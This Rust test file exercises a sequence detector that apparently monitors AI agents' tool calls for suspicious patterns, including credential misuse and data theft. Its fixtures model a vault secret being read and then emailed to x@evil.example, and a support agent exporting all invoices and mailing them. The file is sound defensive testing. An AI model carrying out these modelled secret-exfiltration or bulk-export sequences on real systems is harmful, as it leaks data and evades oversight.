//! The `sequence` detector through its config: the built-in rule and its span limit,
//! "not followed by", join keys across steps, unordered, count and distinct rules,
//! learned per-role behaviour (surprising calls, unusual sessions, new terms), caps,
//! restore mid-stream, and config errors.

use crate::common;

use common::*;
use serde_json::json;
use toolgate_protocol::{DetectorKind, FindingAction, Severity};

const SERVERS: &str = r#"
[servers.vault]
trust_domain = "secret"
[servers.mail]
trust_domain = "external"
[servers.drive]
trust_domain = "internal"
"#;

fn config(extra: &str) -> String {
    format!(
        "{SERVERS}\n[detectors.sequence]\n{extra}\n[detectors.sequence.learned]\nenabled = false\n"
    )
}

#[test]
fn builtin_rule_catches_a_secret_read_then_an_external_call_up_to_exactly_60s() {
    for (gap_ms, expected) in [(1_000, true), (60_000, true), (60_001, false)] {
        let mut d = build("sequence", &config(""));
        let mut s = Stream::new("a1", "s1");
        let events = [
            s.call(0, "vault", "get_secret", json!({"name": "db"})),
            s.result(100, "vault", "get_secret", "hunter2"),
            s.call(
                100 + gap_ms,
                "mail",
                "send_email",
                json!({"to": "x@evil.example"}),
            ),
        ];
        let found = run(&mut d, &events);
        assert_eq!(!found.is_empty(), expected, "gap {gap_ms} ms: {found:?}");
        if let Some(f) = found.first() {
            assert_eq!(f.rule_id, "secret_read_then_external_egress");
            assert_eq!(f.detector, DetectorKind::Sequence);
            assert_eq!(f.severity, Severity::Medium);
            assert_eq!(
                f.event_ids,
                [events[1].event_id.clone(), events[2].event_id.clone()]
            );
            assert_eq!(f.evidence["matched"][1]["step"], json!("external call"));
            assert_eq!(f.call_id.as_deref(), events[2].call_id());
        }
    }
    let mut d = build("sequence", &config(""));
    let found = run(
        &mut d,
        &[
            Stream::new("a1", "s1").result(0, "vault", "get_secret", "k"),
            Stream::new("a1", "s2").call(10, "mail", "send_email", json!({})),
        ],
    );
    assert!(found.is_empty(), "another session is another group");
    let mut d = build("sequence", &config("builtin_rules = false\n"));
    let mut s = Stream::new("a1", "s1");
    let found = run(
        &mut d,
        &[
            s.result(0, "vault", "get", "k"),
            s.call(10, "mail", "send", json!({})),
        ],
    );
    assert!(found.is_empty(), "built-in rules can be turned off");
}

#[test]
fn the_order_of_steps_matters() {
    let mut d = build("sequence", &config(""));
    let mut s = Stream::new("a1", "s1");
    let found = run(
        &mut d,
        &[
            s.call(0, "mail", "send", json!({})),
            s.result(10, "vault", "get", "k"),
        ],
    );
    assert!(found.is_empty());
}

const APPROVAL: &str = r#"
[[detectors.sequence.rules]]
id = "payment_without_confirmation"
title = "Payment not confirmed"
severity = "high"
action = "block"
steps = [{ name = "payment", where = { kind = "tool_call", tool = "send_money*" } }]
not_followed_by = { where = { kind = "tool_call", tool = "confirm_*" }, within = "30s" }
"#;

#[test]
fn not_followed_by_waits_for_its_span_and_an_event_exactly_at_the_limit_cancels() {
    for (confirm_at, expected) in [
        (None, true),
        (Some(30_000), false),
        (Some(30_001), true),
        (Some(5_000), false),
    ] {
        let mut d = build("sequence", &config(APPROVAL));
        let mut s = Stream::new("a1", "s1");
        let mut events = vec![s.call(0, "bank", "send_money", json!({"amount": 10}))];
        if let Some(t) = confirm_at {
            events.push(s.call(t, "bank", "confirm_payment", json!({})));
        }
        let mut found = run(&mut d, &events);
        d.advance(at(30_000), &mut found);
        if confirm_at.is_none_or(|t| t <= 30_000) {
            assert!(
                found.is_empty(),
                "nothing until the watermark passes the limit"
            );
        }
        d.advance(at(40_000), &mut found);
        assert_eq!(
            !found.is_empty(),
            expected,
            "confirm at {confirm_at:?}: {found:?}"
        );
        if let Some(f) = found.first() {
            assert_eq!(
                (f.detector, f.action),
                (DetectorKind::Sequence, FindingAction::Block)
            );
            assert_eq!(f.time, at(30_000));
            assert_eq!(f.evidence["not_followed_within"], json!("30s"));
        }
    }
    // At the end of an offline replay, a match still waiting is raised.
    let mut d = build("sequence", &config(APPROVAL));
    let mut found = run(
        &mut d,
        &[Stream::new("a", "s").call(0, "bank", "send_money", json!({}))],
    );
    d.finish(&mut found);
    assert_eq!(rules(&found), ["payment_without_confirmation"]);
}

#[test]
fn steps_join_on_their_own_fields() {
    let rule = r#"
[[detectors.sequence.rules]]
id = "read_then_share_same_file"
within = "10m"
steps = [
  { where = { kind = "tool_call", tool = "read_file" }, by = ["agent_id", "arguments.path"] },
  { where = { kind = "tool_call", tool = "share_file" }, by = ["agent_id", "arguments.file"] },
]
by = ["agent_id", "arguments.path"]
"#;
    let mut d = build("sequence", &config(rule));
    let mut s = Stream::new("a1", "s1");
    let found = run(
        &mut d,
        &[
            s.call(
                0,
                "drive",
                "read_file",
                json!({"path": "/hr/salaries.xlsx"}),
            ),
            s.call(
                1000,
                "drive",
                "share_file",
                json!({"file": "/public/menu.pdf"}),
            ),
        ],
    );
    assert!(found.is_empty(), "different files do not join");
    let found = run(
        &mut d,
        &[s.call(
            2000,
            "drive",
            "share_file",
            json!({"file": "/hr/salaries.xlsx"}),
        )],
    );
    assert_eq!(rules(&found), ["read_then_share_same_file"]);
    assert!(
        found[0].evidence["group"]
            .as_str()
            .is_some_and(|g| g.contains("/hr/salaries.xlsx"))
    );
}

#[test]
fn unordered_count_and_distinct_rules() {
    let rules_toml = r#"
[[detectors.sequence.rules]]
id = "recon"
kind = "unordered"
within = "1m"
steps = [{ where = { tool = "list_users" } }, { where = { tool = "list_groups" } }]

[[detectors.sequence.rules]]
id = "failing_logins"
kind = "count"
within = "1m"
threshold = 5
by = ["agent_id"]
steps = [{ where = { kind = "tool_result", tool = "login", "result.is_error" = true } }]

[[detectors.sequence.rules]]
id = "many_recipients"
kind = "distinct"
field = "arguments.to"
threshold = 3
within = "10m"
steps = [{ where = { kind = "tool_call", tool = "send_email" } }]
"#;
    let mut d = build("sequence", &config(rules_toml));
    let mut s = Stream::new("a1", "s1");
    let found = run(
        &mut d,
        &[
            s.call(0, "dir", "list_groups", json!({})),
            s.call(50_000, "dir", "list_users", json!({})),
        ],
    );
    assert_eq!(rules(&found), ["recon"], "any order");
    let found = run(&mut d, &[s.call(200_000, "dir", "list_users", json!({}))]);
    assert!(found.is_empty(), "the other step is more than a minute old");

    let mut errors = Vec::new();
    for i in 0..6 {
        let mut e: serde_json::Value = serde_json::from_str(
            &s.result(300_000 + i * 5_000, "idp", "login", "denied")
                .to_json(),
        )
        .unwrap_or_default();
        e["result"]["isError"] = json!(true);
        errors.push(toolgate_protocol::Event::from_value(e).unwrap_or_else(|e| panic!("{e}")));
    }
    let found = run(&mut d, &errors);
    assert_eq!(
        rules(&found),
        ["failing_logins", "failing_logins"],
        "the 5th and 6th failures"
    );
    assert_eq!(found[0].detector, DetectorKind::Rule);
    assert_eq!(
        found[0].event_ids,
        [errors[0].event_id.clone(), errors[4].event_id.clone()]
    );

    let sends: Vec<_> = ["a@x.io", "a@x.io", "b@x.io", "c@x.io"]
        .iter()
        .enumerate()
        .map(|(i, to)| {
            s.call(
                400_000 + i as i64,
                "mail",
                "send_email",
                json!({"to": [to]}),
            )
        })
        .collect();
    let found = run(&mut d, &sends);
    assert_eq!(
        rules(&found),
        ["many_recipients"],
        "only the third distinct recipient"
    );
}

#[test]
fn groups_are_bounded() {
    let mut d = build("sequence", &config("max_groups = 100\n"));
    let events: Vec<_> = (0..1000)
        .map(|i| Stream::new("a", &format!("s{i}")).result(i, "vault", "get", "k"))
        .collect();
    run(&mut d, &events);
    assert!(gauge(d.as_ref(), "toolgate_sequence_groups") <= 100);
    assert!(gauge(d.as_ref(), "toolgate_sequence_evicted_groups_total") >= 900);
    let mut out = Vec::new();
    d.advance(at(200_000), &mut out);
    assert_eq!(
        gauge(d.as_ref(), "toolgate_sequence_groups"),
        0,
        "idle groups are swept"
    );
}

#[test]
fn late_events_are_counted() {
    let mut d = build("sequence", &config(""));
    let mut s = Stream::new("a1", "s1");
    run(&mut d, &[s.call(100_000, "drive", "x", json!({}))]);
    let mut out = Vec::new();
    d.observe(&s.call(10_000, "drive", "x", json!({})), &mut out);
    assert_eq!(gauge(d.as_ref(), "toolgate_sequence_late_events_total"), 1);
}

/// Support agents that read a ticket, look the customer up and reply; one session
/// then wanders into the billing server.
fn support_traffic(sessions: usize) -> Vec<toolgate_protocol::Event> {
    let mut events = Vec::new();
    for i in 0..sessions {
        let mut s =
            Stream::new(&format!("agent-{}", i % 5), &format!("s{i}")).with_role("support-bot");
        let t = i as i64 * 60_000;
        events.push(s.call(t, "tickets", "get_ticket", json!({"id": i})));
        events.push(s.call(t + 1000, "crm", "lookup_customer", json!({"id": i})));
        if i % 3 == 0 {
            events.push(s.call(t + 2000, "kb", "search", json!({"q": "refund"})));
        }
        events.push(s.call(t + 3000, "tickets", "reply", json!({"id": i})));
    }
    events
}

const LEARNED: &str = "[detectors.sequence.learned]\nwarmup_calls = 300\nwarmup_sessions = 30\nsession_idle = \"30s\"\n";

fn learned_config() -> String {
    format!("{SERVERS}\n[detectors.sequence]\nbuiltin_rules = false\n{LEARNED}")
}

#[test]
fn a_role_learns_its_routine_and_flags_what_breaks_it() {
    let mut d = build("sequence", &learned_config());
    let routine = support_traffic(300);
    let found = run(&mut d, &routine);
    assert!(
        found
            .iter()
            .all(|f| f.rule_id != "unusual_session_path" && f.rule_id != "new_server_for_role"),
        "the routine itself is not flagged: {:?}",
        rules(&found)
    );
    let mut odd = Stream::new("agent-1", "odd").with_role("support-bot");
    let t = 300 * 60_000;
    let found = run(
        &mut d,
        &[
            odd.call(t, "tickets", "get_ticket", json!({})),
            odd.call(t + 1000, "billing", "export_all_invoices", json!({})),
            odd.call(t + 2000, "billing", "export_all_invoices", json!({})),
            odd.call(t + 3000, "mail", "send_email", json!({})),
        ],
    );
    let ids = rules(&found);
    assert!(ids.contains(&"new_server_for_role"), "{ids:?}");
    assert!(ids.contains(&"unusual_call"), "{ids:?}");
    let call = found
        .iter()
        .find(|f| f.rule_id == "unusual_call")
        .map(|f| f.evidence.clone())
        .unwrap_or_default();
    assert_eq!(call["role"], json!("support-bot"));
    assert!(call["surprisal_bits"].as_f64() > call["threshold_bits"].as_f64());
    let mut out = Vec::new();
    d.advance(at(t + 60_000), &mut out);
    assert_eq!(rules(&out), ["unusual_session_path"], "{out:?}");
    assert_eq!(out[0].session_id, "odd");
    // Another role knows nothing of this one's routine: it is still warming up.
    let mut other = Stream::new("agent-9", "x").with_role("finance-bot");
    let mut d2 = build(
        "sequence",
        &format!(
            "{SERVERS}\n[detectors.sequence]\nbuiltin_rules = false\n{LEARNED}fleet_fallback = false\n"
        ),
    );
    run(&mut d2, &routine);
    assert!(
        run(
            &mut d2,
            &[other.call(t, "billing", "export_all_invoices", json!({}))]
        )
        .is_empty()
    );
}

#[test]
fn a_restore_mid_stream_gives_identical_findings() {
    let mut events = support_traffic(120);
    let mut s = Stream::new("a1", "x");
    let t = 120 * 60_000;
    events.push(s.result(t, "vault", "get", "k"));
    events.push(s.call(t + 100, "mail", "send", json!({})));
    events.push(s.call(t + 200, "bank", "send_money", json!({})));
    let toml = format!(
        "{SERVERS}\n[detectors.sequence]\n{APPROVAL_BODY}\n[detectors.sequence.learned]\nwarmup_calls = 100\nwarmup_sessions = 10\nsession_idle = \"30s\"\n",
        APPROVAL_BODY = APPROVAL.trim()
    );
    for split in [50, 200, events.len() - 2] {
        assert_restore_mid_stream("sequence", &toml, &events, split);
    }
}

#[test]
fn bad_rules_name_the_rule_and_the_key() {
    let cases = [
        (
            "[[detectors.sequence.rules]]\nid = \"r\"\nsteps = [{ where = { tool = \"a\" } }, { where = { tool = \"b\" } }]\n",
            "rule \"r\": `within` is required",
        ),
        (
            "[[detectors.sequence.rules]]\nid = \"r\"\nsteps = [{ where = { tol = \"a\" } }]\n",
            "`steps[0].where`: unknown field \"tol\"",
        ),
        (
            "[[detectors.sequence.rules]]\nid = \"r\"\nwithin = \"1m\"\nsteps = [{ where = { tool = \"a\" }, by = [\"agent_id\"] }, { where = { tool = \"b\" } }]\n",
            "`steps[0].by` has 1 fields",
        ),
        (
            "[[detectors.sequence.rules]]\nid = \"r\"\nkind = \"count\"\nwithin = \"1m\"\nsteps = [{ where = { tool = \"a\" } }]\n",
            "`threshold` is required",
        ),
        (
            "[[detectors.sequence.rules]]\nid = \"secret_read_then_external_egress\"\nsteps = [{ where = { tool = \"a\" } }]\n",
            "used twice",
        ),
        (
            "[[detectors.sequence.rules]]\nid = \"r\"\nsteps = [{ where = { tool = { gt = \"x\" } } }]\n",
            "`gt` takes a number",
        ),
        (
            "[[detectors.sequence.rules]]\nid = \"r\"\nstep = []\n",
            "unknown field `step`",
        ),
        ("[detectors.sequence.learned]\norder = 9\n", "learned.order"),
    ];
    for (extra, want) in cases {
        let e = build_error(&format!("{SERVERS}\n[detectors.sequence]\n{extra}"));
        assert!(
            e.contains("detectors.sequence") && e.contains(want),
            "{extra}\n→ {e}"
        );
    }
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    const THREE_STEPS: &str = r#"
[[detectors.sequence.rules]]
id = "abc"
within = "10s"
steps = [{ where = { tool = "a" } }, { where = { tool = "b" } }, { where = { tool = "c" } }]
"#;

    /// Whether some a ≤ b ≤ c in stream order (by position) lie within 10 s.
    fn brute_force(stream: &[(i64, char)]) -> Vec<bool> {
        (0..stream.len())
            .map(|k| {
                let (tc, c) = stream[k];
                c == 'c'
                    && (0..k).any(|j| {
                        stream[j].1 == 'b'
                            && (0..j).any(|i| stream[i].1 == 'a' && tc - stream[i].0 <= 10_000)
                    })
            })
            .collect()
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(300))]
        /// Keeping one partial match per step (the one that started latest) finds a
        /// three-step sequence exactly when one exists: every `c` that completes some
        /// in-order `a`, `b`, `c` within the span raises a finding, and no other does.
        #[test]
        fn one_partial_per_step_finds_every_match(
            gaps in proptest::collection::vec((0i64..4_000, 0usize..4), 1..60)
        ) {
            let mut t = 0;
            let stream: Vec<(i64, char)> = gaps
                .iter()
                .map(|&(gap, k)| {
                    t += gap;
                    (t, ['a', 'b', 'c', 'x'][k])
                })
                .collect();
            let mut d = build("sequence", &config(&format!("builtin_rules = false\n{THREE_STEPS}")));
            let mut s = Stream::new("a1", "s1");
            let mut got = Vec::new();
            for &(t, tool) in &stream {
                let e = s.call(t, "srv", &tool.to_string(), json!({}));
                got.push(!run(&mut d, &[e]).is_empty());
            }
            prop_assert_eq!(got, brute_force(&stream));
        }
    }
}
